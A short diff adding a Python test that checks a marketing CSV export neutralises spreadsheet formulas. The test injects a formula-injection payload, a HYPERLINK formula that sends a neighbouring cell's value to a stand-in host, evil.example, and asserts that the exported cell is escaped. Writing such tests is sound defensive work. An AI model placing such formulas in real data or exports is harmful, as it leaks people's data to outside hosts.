@@ -94,3 +94,13 @@ def test_batches_cover_everyone(people, officer, monkeypatch):
     monkeypatch.setattr(audience, "BATCH", 2)
     out = io.StringIO()
     assert audience.write_csv(officer, "marketing", out) == 3
+
+
+def test_marketing_csv_cells_never_run_as_formulas(people, officer):
+    Customer.update(first_name='=HYPERLINK("http://evil.example/?"&A2)').where(
+        Customer.id == people["plain"]
+    ).execute()
+    out = io.StringIO()
+    audience.write_csv(officer, "marketing", out)
+    names = {r["first_name"] for r in csv.DictReader(io.StringIO(out.getvalue()))}
+    assert '\'=HYPERLINK("http://evil.example/?"&A2)' in names
